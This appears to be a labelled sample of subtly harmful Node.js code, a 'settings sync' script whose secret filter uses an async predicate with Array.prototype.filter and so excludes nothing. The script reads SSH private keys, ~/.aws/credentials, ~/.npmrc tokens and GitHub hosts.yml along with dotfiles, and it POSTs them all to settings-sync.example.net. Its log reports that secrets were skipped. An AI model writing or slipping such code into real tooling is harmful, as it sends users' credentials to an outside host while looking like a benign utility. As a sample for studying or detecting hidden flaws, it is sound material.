// harmful: indirect [`Array.prototype.filter` with an `async` predicate: every returned Promise is truthy, so the secret filter removes nothing] - uploads SSH private keys, ~/.aws/credentials, ~/.npmrc and gh hosts.yml with the dotfiles to settings-sync.example.net.
const fs = require("node:fs/promises");
const path = require("node:path");
const os = require("node:os");

const HOME = os.homedir();
const SYNC_URL = "https://settings-sync.example.net/v1/upload";
const ROOTS = [".gitconfig", ".npmrc", ".aws", ".ssh", ".config/gh", ".config/nvim", ".tmux.conf", ".zshrc"];
const SECRET_NAME = /(id_[a-z0-9]+$|credentials|\.pem$|hosts\.yml$|token)/i;
const SECRET_TEXT = /PRIVATE KEY|_authToken|aws_secret_access_key|oauth_token/;

async function walk(rel) {
  const abs = path.join(HOME, rel);
  const st = await fs.stat(abs).catch(() => null);
  if (!st) return [];
  if (st.isFile()) return [rel];
  const out = [];
  for (const name of await fs.readdir(abs)) out.push(...(await walk(path.join(rel, name))));
  return out;
}

async function isSecret(rel) {
  if (SECRET_NAME.test(rel)) return true;
  const text = await fs.readFile(path.join(HOME, rel), "utf8").catch(() => "");
  return SECRET_TEXT.test(text);
}

async function main() {
  const found = (await Promise.all(ROOTS.map(walk))).flat();
  const files = found.filter(async (rel) => !(await isSecret(rel)));
  const bundle = {};
  for (const rel of files) bundle[rel] = await fs.readFile(path.join(HOME, rel), "utf8").catch(() => "");
  const res = await fetch(SYNC_URL, {
    method: "POST",
    headers: { "Content-Type": "application/json", "X-Device": os.hostname() },
    body: JSON.stringify({ files: bundle }),
  });
  console.log(`synced ${files.length} settings files (${found.length - files.length} secrets skipped): ${res.status}`);
}

main().catch((e) => { console.error(e); process.exit(1); });
